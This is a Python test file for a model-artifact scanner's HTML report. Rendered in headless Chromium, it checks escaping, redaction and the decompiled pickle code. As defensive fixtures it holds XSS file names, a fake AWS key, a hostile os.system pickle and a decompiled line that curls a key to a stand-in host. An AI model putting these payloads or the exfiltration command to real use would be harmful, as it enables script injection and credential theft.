"""The HTML review report, rendered by a real headless Chromium: verdict, digests, findings, decompiled
code, redaction, not-analyzed table, and hostile names that must not inject markup."""

from __future__ import annotations

import os
import shutil
import subprocess
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from scanner.engine import ScanOptions, scan_paths
from scanner.report.html import HtmlRenderer
from scanner.rulebook import finding
from tests.conftest import FIXTURES, ROOT

LEAKY = FIXTURES / "foundation" / "leaky.safetensors"
HOSTILE = "<img src=x onerror=alert(1)>.safetensors"
HOSTILE_TEXT = '"><b id=pwn>owned</b>.txt'.replace("/", "_")
FAKE_AWS = "AKIA" + "Q3EGRTZ7XWJ5VHNB"


def chromium() -> str:
    exe = shutil.which("chromium")
    if exe is None:
        if os.environ.get("CI") == "true":
            pytest.fail("chromium is required in CI (make browser installs Debian's package)")
        pytest.skip("chromium not installed (make browser installs Debian's package)")
    return exe


def render_in_chromium(html_file: Path, tmp_path: Path, screenshot: Path) -> str:
    base = [
        chromium(),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
        f"--user-data-dir={tmp_path / 'chromium-profile'}",
    ]
    url = html_file.resolve().as_uri()
    dom = subprocess.run([*base, "--dump-dom", url], capture_output=True, text=True, timeout=120, check=True)
    screenshot.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        [*base, f"--screenshot={screenshot}", "--window-size=1280,1800", url],
        capture_output=True,
        timeout=120,
        check=True,
    )
    return dom.stdout


class Dom(HTMLParser):
    """Elements (tag, attributes) and the text inside elements with an id or class of interest."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def by_class(self, name: str) -> list[dict[str, str | None]]:
        return [a for _, a in self.elements if name in (a.get("class") or "").split()]

    def text(self) -> str:
        return " ".join(self.texts)


@pytest.fixture
def drop(tmp_path: Path) -> Path:
    d = tmp_path / "vendor-drop"
    d.mkdir()
    shutil.copy(LEAKY, d / HOSTILE)
    (d / HOSTILE_TEXT).write_text(f"aws_access_key_id = {FAKE_AWS}\n")
    shutil.copy(FIXTURES / "formats_b" / "keras" / "lambda_nested.keras", d / "lambda_nested.keras")
    shutil.copy(FIXTURES / "formats_b" / "onnx" / "ext_ok" / "weights.bin", d / "weights.bin")
    shutil.copy(FIXTURES / "deps" / "vulnerable" / "requirements.txt", d / "requirements.txt")
    shutil.copy(FIXTURES / "pickle" / "hostile" / "call_os_system.pkl", d / "call_os_system.pkl")
    return d


def test_html_report_in_chromium(run_cli, drop: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "report.html"
    vuln_db = FIXTURES / "deps" / "osv-records.zip"
    r = run_cli("scan", str(drop), "--html", str(out), "--json", "-", "--vuln-db", str(vuln_db), "--reproducible")
    assert r.code == 1
    doc = r.json()
    source = out.read_text()
    # self-contained: nothing is loaded from anywhere
    parsed = Dom(source)
    assert not [t for t, a in parsed.elements if t in {"script", "link", "img", "iframe", "object"} or "src" in a]
    style = source.split("<style>", 1)[1].split("</style>", 1)[0]
    assert "@import" not in style and "url(" not in style
    assert "default-src 'none'" in source
    dom_text = render_in_chromium(out, tmp_path, ROOT / "build" / "report-screenshot.png")
    assert (ROOT / "build" / "report-screenshot.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    dom = Dom(dom_text)
    # verdict first
    verdict = [a for t, a in dom.elements if a.get("id") == "verdict"]
    assert verdict and verdict[0]["class"] == "verdict verdict-fail"
    assert "FAIL" in dom_text.split('id="verdict"', 1)[1][:80]
    # hostile names are text, never markup
    tags = {t for t, _ in dom.elements}
    assert "img" not in tags and "script" not in tags
    assert not [a for _, a in dom.elements if a.get("id") == "pwn"]
    assert HOSTILE in dom.text() and HOSTILE_TEXT in dom.text()
    # one finding box per JSON finding, each with its severity
    findings = [f for a in doc["artifacts"] for f in a["findings"]]
    boxes = dom.by_class("finding")
    assert len(boxes) == len(findings)
    assert {b["class"].split()[1].removeprefix("sev-border-") for b in boxes} == {f["severity"] for f in findings}  # type: ignore[union-attr]
    # digests and formats per artifact
    for art in doc["artifacts"]:
        assert f"sha256:{art['digests']['sha256']}" in dom.text()
    assert "keras" in dom.text() and "safetensors" in dom.text()
    # the call chain of the Lambda layer and the dependency vulnerabilities table
    chain = [f for f in findings if f.get("extra", {}).get("call_chain")]
    assert chain and " ".join(chain[0]["extra"]["call_chain"]) in " ".join(
        dom_text.split('class="call-chain"', 1)[1].split("</ol>", 1)[0].replace("<li><code>", " ").replace("</code></li>", "").split()
    )
    assert len(dom.by_class("vulnerability")) == sum(1 for f in findings if "vulnerability_id" in f.get("extra", {}))
    assert dom.by_class("vulnerability")
    # the code unpickling would run, decompiled by the pickle engine (never executed)
    (pickled,) = [f for a in doc["artifacts"] if a["relpath"] == "call_os_system.pkl" for f in a["findings"]]
    assert pickled["rule_id"] == "AS-PKL-001" and pickled["severity"] == "critical"
    blocks = dom_text.split('<pre class="decompiled"><code>')[1:]
    assert pickled["extra"]["decompiled"].startswith("from os import system")
    assert pickled["extra"]["decompiled"] in [b.split("</code></pre>", 1)[0] for b in blocks]
    # secrets redacted, not analyzed parts listed with their reason
    assert FAKE_AWS not in dom_text and "REDACTED aws-access-key-id" in dom.text()
    assert len(dom.by_class("not-analyzed")) >= 1
    assert "no analyzer recognises this content" in dom.text()


def test_html_shows_decompiled_code_escaped_and_redacted(drop: Path, tmp_path: Path) -> None:
    report = scan_paths([str(drop)], ScanOptions(jobs=1, reproducible=True))
    code = f"from os import system\nsystem('curl http://x/?k={FAKE_AWS}')\n</code></pre><script>alert(1)</script>"
    extra = {"decompiled": code, "call_chain": ["os.system"], "module": "os", "qualname": "system"}
    first = report.results[0]
    added = finding("AS-GEN-005", analyzer="test", member="data.pkl", detail="pickle calls os.system", extra=extra)
    report = replace(report, results=(replace(first, findings=(added, *first.findings)), *report.results[1:]))
    out = tmp_path / "decompiled.html"
    out.write_text(HtmlRenderer().render(report))
    dom = Dom(render_in_chromium(out, tmp_path, ROOT / "build" / "report-decompiled.png"))
    assert "script" not in {t for t, _ in dom.elements}
    pres = [a for t, a in dom.elements if t == "pre" and a.get("class") == "decompiled"]
    assert len(pres) == 3  # ours, the Keras Lambda's recovered strings and the pickle's decompiled code
    text = dom.text()
    assert "from os import system" in text and "</code></pre><script>alert(1)</script>" in text
    assert FAKE_AWS not in text and "REDACTED aws-access-key-id" in text
